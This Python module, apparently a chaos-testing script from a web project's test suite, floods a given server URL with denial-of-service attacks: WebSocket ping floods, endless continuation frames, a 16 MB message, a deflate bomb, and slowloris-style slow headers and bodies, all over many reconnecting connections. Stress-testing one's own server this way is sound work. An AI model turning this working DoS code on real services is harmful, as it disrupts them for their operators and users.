"""People who mean harm, each a few connections that go on and on: `python -m tests.chaos.attacks NAME URL SECONDS`."""

from __future__ import annotations

import asyncio
import os
import sys
import zlib
from base64 import b64encode
from collections.abc import Awaitable, Callable
from contextlib import suppress
from typing import TypeAlias
from urllib.parse import urlsplit

from tests.chaos.machines import E

FLOODERS = 10
SLOW = 200
CHUNK = 256
PAUSE_S = 0.05
"""Before an attacker who was thrown out comes again."""

MB = 1024 * 1024

Reader: TypeAlias = asyncio.StreamReader
Writer: TypeAlias = asyncio.StreamWriter
Attack: TypeAlias = Callable[[Reader, Writer], Awaitable[None]]


def frame(first: int, payload: bytes = b"") -> bytes:
    """A frame as a client sends it, with a mask of nought."""
    size = len(payload)
    if size < 126:
        return bytes((first, 0x80 | size, 0, 0, 0, 0)) + payload
    if size < 65_536:
        return bytes((first, 0xFE)) + size.to_bytes(2) + bytes(4) + payload
    return bytes((first, 0xFF)) + size.to_bytes(8) + bytes(4) + payload


async def again_and_again(writer: Writer, data: bytes) -> None:
    """Send the same for as long as it is taken."""
    while True:
        writer.write(data)
        await writer.drain()


async def ping_flood(_: Reader, writer: Writer) -> None:
    """Ping, and read none of the answers."""
    await again_and_again(writer, frame(0x89, b"ping") * CHUNK)


async def ping_flood_read(reader: Reader, writer: Writer) -> None:
    """Ping, and read the answers, so that there is never an end to them."""

    async def read() -> None:
        while await reader.read(MB):
            pass

    reading = asyncio.ensure_future(read())
    try:
        await again_and_again(writer, frame(0x89, b"ping") * CHUNK)
    finally:
        reading.cancel()


async def empty_continuations(_: Reader, writer: Writer) -> None:
    """Say a message that never ends, and never gets longer."""
    writer.write(frame(0x01, b"a"))
    await again_and_again(writer, frame(0x00) * CHUNK)


async def small_messages(_: Reader, writer: Writer) -> None:
    """Talk to a server that does not listen."""
    await again_and_again(writer, frame(0x81, b"hello") * CHUNK)


async def large_message(reader: Reader, writer: Writer) -> None:
    """Say 16 MB at once."""
    writer.write(frame(0x81, bytes(16 * MB)))
    await writer.drain()
    await reader.read()


async def deflate_bomb(reader: Reader, writer: Writer) -> None:
    """Say a little that unpacks to 100 MB."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    bomb = packer.compress(bytes(100 * MB)) + packer.flush(zlib.Z_SYNC_FLUSH)
    writer.write(frame(0xC1, bomb[:-4]))
    await writer.drain()
    await reader.read()


async def endless_head(_: Reader, writer: Writer) -> None:
    """Ask, with one header after another."""
    writer.write(f"GET {E}/ HTTP/1.1\r\nHost: here\r\n".encode())
    await again_and_again(writer, (b"X-More: " + b"m" * 100 + b"\r\n") * CHUNK)


async def slow_head(reader: Reader, writer: Writer) -> None:
    """Ask, a letter a second."""
    await letter_by_letter(reader, writer, f"GET {E}/ HTTP/1.1\r\nHost: here\r\nX-More: ".encode() + b"m" * 1000)


async def slow_body(reader: Reader, writer: Writer) -> None:
    """Post, a letter a second."""
    head = f"POST {E}/comments HTTP/1.1\r\nHost: here\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n"
    writer.write(head.encode())
    await letter_by_letter(reader, writer, b"{" * 1000)


async def letter_by_letter(reader: Reader, writer: Writer, text: bytes) -> None:
    """Say something slowly, until the other side has had enough."""
    for letter in text:
        writer.write(bytes([letter]))
        with suppress(TimeoutError):
            if not await asyncio.wait_for(reader.read(1024), 1):
                return


ON_SOCKETS: dict[str, Attack] = {
    "pings": ping_flood,
    "pings, answers read": ping_flood_read,
    "empty continuations": empty_continuations,
    "small messages": small_messages,
    "16 MB message": large_message,
    "deflate bomb": deflate_bomb,
}
ON_REQUESTS: dict[str, Attack] = {
    "endless head": endless_head,
    "slow heads": slow_head,
    "slow bodies": slow_body,
}
SLOW_ONES = {"slow heads", "slow bodies"}
ATTACKS = ON_SOCKETS | ON_REQUESTS


async def upgraded(url: str, reader: Reader, writer: Writer) -> None:
    """Open the socket of the event's page, offering to compress."""
    writer.write(
        (
            f"GET {E}/live HTTP/1.1\r\nHost: {urlsplit(url).netloc}\r\nOrigin: {url}\r\nUpgrade: websocket\r\n"
            "Connection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Extensions: permessage-deflate\r\n"
            f"Sec-WebSocket-Key: {b64encode(os.urandom(16)).decode()}\r\n\r\n"
        ).encode()
    )
    await reader.readuntil(b"\r\n\r\n")


async def attack_for_ever(name: str, url: str) -> None:
    """Connect, do harm, and come again when thrown out."""
    address = urlsplit(url)
    while True:
        with suppress(OSError, asyncio.IncompleteReadError):
            reader, writer = await asyncio.open_connection(address.hostname, address.port)
            try:
                if name in ON_SOCKETS:
                    await upgraded(url, reader, writer)
                await ATTACKS[name](reader, writer)
            finally:
                writer.transport.abort()
        await asyncio.sleep(PAUSE_S)


async def attack(name: str, url: str, seconds: float) -> None:
    """Attack for so long."""
    with suppress(TimeoutError):
        async with asyncio.timeout(seconds), asyncio.TaskGroup() as group:
            for _ in range(SLOW if name in SLOW_ONES else FLOODERS):
                group.create_task(attack_for_ever(name, url))


if __name__ == "__main__":
    os.nice(10)
    asyncio.run(attack(sys.argv[1], sys.argv[2], float(sys.argv[3])))
